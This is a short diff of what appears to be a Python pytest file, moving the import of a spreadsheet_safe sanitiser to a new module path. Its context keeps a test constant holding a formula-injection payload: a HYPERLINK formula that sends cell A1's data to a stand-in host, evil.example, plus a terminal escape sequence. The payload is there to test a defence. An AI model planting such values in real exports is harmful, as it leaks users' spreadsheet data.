@@ -13,7 +13,7 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from collector.tidy import spreadsheet_safe
+from collector.dataset.tidy import spreadsheet_safe
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1;"click")\x1b]0;pwned\x07'
 
